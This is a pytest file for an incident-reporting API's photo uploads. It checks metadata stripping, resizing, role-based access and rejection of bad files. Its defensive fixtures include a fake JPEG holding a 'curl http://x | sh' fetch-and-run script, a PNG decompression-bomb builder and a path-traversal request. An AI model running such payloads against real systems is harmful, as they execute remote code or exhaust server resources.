"""Photos: multipart uploads checked from their bytes, re-encoded without metadata, stored by content, served
only to those who may see the incident; bad uploads refused with nothing stored."""

from __future__ import annotations

import io
import struct
import uuid
import zlib
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from PIL import Image
from sqlalchemy import func, select

from api.config import Settings
from api.db import Database
from api.incidents.models import Incident, IncidentPhoto, Report
from tests.incidents.conftest import Cast
from tests.incidents.operations import REPORT, RESOLVE, elsewhere, report, run

REPORT_WITH_PHOTOS = REPORT.replace("attachedToExisting", "attachedToExisting incident { photos { sha256 url "
                                    "thumbnailUrl width height } }")


def jpeg(width: int = 300, height: int = 200, gps: tuple | None = None) -> bytes:
    """A JPEG with camera metadata and, optionally, GPS."""
    img = Image.new("RGB", (width, height), (200, 60, 40))
    exif = Image.Exif()
    exif[0x010F] = "Camera Maker"
    exif[0x0110] = "Secret Phone Model"
    if gps:
        exif.get_ifd(0x8825).update({1: "N", 2: gps[0], 3: "E", 4: gps[1]})
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif)
    return out.getvalue()


def png_bomb(side: int = 30_000) -> bytes:
    """A tiny PNG whose header claims side x side pixels (a decompression bomb)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


async def upload(client: httpx.AsyncClient, token: str, files: list[tuple[str, bytes, str]],
                 query: str = REPORT_WITH_PHOTOS, **values: Any) -> dict[str, Any]:
    """Posts reportIncident as a GraphQL multipart request."""
    defaults = ({"category": "INFRASTRUCTURE", "description": "Ổ gà", "idempotencyKey": str(uuid.uuid4())}
                if query == REPORT_WITH_PHOTOS else {})
    variables: dict[str, Any] = {"input": {**defaults, **values, "photos": [None] * len(files)}}
    operations = {"query": query, "variables": variables}
    mapping = {str(i): [f"variables.input.photos.{i}"] for i in range(len(files))}
    form = {"operations": orjson.dumps(operations).decode(), "map": orjson.dumps(mapping).decode()}
    multipart = {str(i): (name, data, kind) for i, (name, data, kind) in enumerate(files)}
    response = await client.post("/graphql", data=form, files=multipart, headers={"authorization": f"Bearer {token}"})
    body = response.json()
    assert "errors" not in body, body
    return next(iter(body["data"].values()))


def _stored(database: Database, media: Path) -> tuple[int, int, int, list[Path]]:
    with database.session() as s:
        counts = [s.scalar(select(func.count()).select_from(m)) or 0 for m in (Incident, Report, IncidentPhoto)]
    files = [p for p in media.rglob("*") if p.is_file()] if media.exists() else []
    return counts[0], counts[1], counts[2], files


async def test_a_photo_with_gps_places_the_pin_and_is_stored_stripped_and_resized(
    client: httpx.AsyncClient, cast: Cast, settings: Settings, database: Database
) -> None:
    # given: 3000x2000 px, taken at 10°12'30"N 103°57'36"E, sent without a location
    photo = jpeg(3000, 2000, gps=((10.0, 12.0, 30.0), (103.0, 57.0, 36.0)))
    # when
    payload = await upload(client, cast.citizen.token, [("IMG_0001.jpg", photo, "image/jpeg")])
    # then
    incident = payload["incident"]
    assert payload["errors"] == []
    assert incident["location"] == {"lat": pytest.approx(10.208333, abs=1e-5), "lng": pytest.approx(103.96)}
    stored = incident["photos"][0]
    assert (stored["width"], stored["height"]) == (2048, 1365)
    path = settings.media_dir / "incidents" / stored["sha256"][:2] / stored["sha256"][2:4] / f"{stored['sha256']}.jpg"
    image = Image.open(path)
    assert image.size == (2048, 1365) and dict(image.getexif()) == {}
    assert b"Secret Phone Model" not in path.read_bytes()
    thumb = Image.open(path.with_name(f"{stored['sha256']}.thumb.jpg"))
    assert max(thumb.size) == 320


async def test_photos_are_served_only_to_those_who_may_see_the_incident(
    client: httpx.AsyncClient, cast: Cast
) -> None:
    # given
    payload = await upload(client, cast.citizen.token, [("a.png", _png(), "image/png")], location=elsewhere())
    url = payload["incident"]["photos"][0]["url"]
    thumb = payload["incident"]["photos"][0]["thumbnailUrl"]

    async def get(path: str, token: str | None) -> httpx.Response:
        return await client.get(path, headers={"authorization": f"Bearer {token}"} if token else {})

    # when
    reporter = await get(url, cast.citizen.token)
    dispatcher = await get(thumb, cast.dispatcher.token)
    stranger = await get(url, cast.other_citizen.token)
    anonymous = await get(url, None)
    guessed = await get("/media/incidents/" + "0" * 64 + ".jpg", cast.dispatcher.token)
    traversal = await get("/media/incidents/..%2F..%2Fsecret.jpg", cast.dispatcher.token)
    # then
    assert reporter.status_code == 200 and reporter.headers["content-type"] == "image/jpeg"
    assert Image.open(io.BytesIO(reporter.content)).format == "JPEG"
    assert dispatcher.status_code == 200
    assert stranger.status_code == 404
    assert anonymous.status_code == 401
    assert guessed.status_code == 404 and traversal.status_code == 404


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", (64, 48), (0, 128, 255, 128)).save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize(("name", "content", "kind", "code"), [
    ("evil.jpg", b"#!/bin/sh\ncurl http://x | sh\n", "image/jpeg", "PHOTO_TYPE_NOT_ALLOWED"),
    ("huge.jpg", b"\xff\xd8\xff\xe0" + b"\0" * (50 * 1024 * 1024), "image/jpeg", "PHOTO_TOO_LARGE"),
    ("empty.jpg", b"", "image/jpeg", "PHOTO_EMPTY"),
    ("bomb.png", png_bomb(), "image/png", "PHOTO_TOO_MANY_PIXELS"),
    ("broken.jpg", b"\xff\xd8\xff\xe0" + b"garbage" * 100, "image/jpeg", "PHOTO_UNREADABLE"),
])
async def test_bad_uploads_are_refused_with_a_clear_error_and_nothing_stored(
    client: httpx.AsyncClient, cast: Cast, settings: Settings, database: Database,
    name: str, content: bytes, kind: str, code: str,
) -> None:
    # given: a good photo first, so a bad one later in the list must undo nothing
    files = [("good.jpg", jpeg(), "image/jpeg"), (name, content, kind)]
    # when
    payload = await upload(client, cast.citizen.token, files, location=elsewhere())
    # then
    assert payload["incident"] is None
    assert [(e["field"], e["code"]) for e in payload["errors"]] == [("photos.1", code)]
    assert payload["errors"][0]["message"].startswith(name)
    assert _stored(database, settings.media_dir) == (0, 0, 0, [])


async def test_more_than_five_photos_are_refused(client: httpx.AsyncClient, cast: Cast) -> None:
    # when
    payload = await upload(client, cast.citizen.token, [(f"{i}.jpg", jpeg(), "image/jpeg") for i in range(6)],
                           location=elsewhere())
    # then
    assert [(e["field"], e["code"]) for e in payload["errors"]] == [("photos", "TOO_MANY_PHOTOS")]


async def test_photo_proof_resolves_an_environment_incident(client: httpx.AsyncClient, cast: Cast) -> None:
    # given
    filed = await report(client, cast.citizen.token, category="ENVIRONMENT")
    incident_id = filed["incident"]["id"]
    await run(client, "mutation($input: AcknowledgeIncidentInput!) { acknowledgeIncident(input: $input) "
              "{ errors { code } } }", cast.dispatcher.token, id=incident_id)
    # when
    resolved = await upload(client, cast.dispatcher.token, [("after.jpg", jpeg(), "image/jpeg")],
                            query=RESOLVE, id=incident_id, resolutionNote="Đã dọn sạch")
    # then
    assert resolved["errors"] == [] and resolved["incident"]["state"] == "RESOLVED"
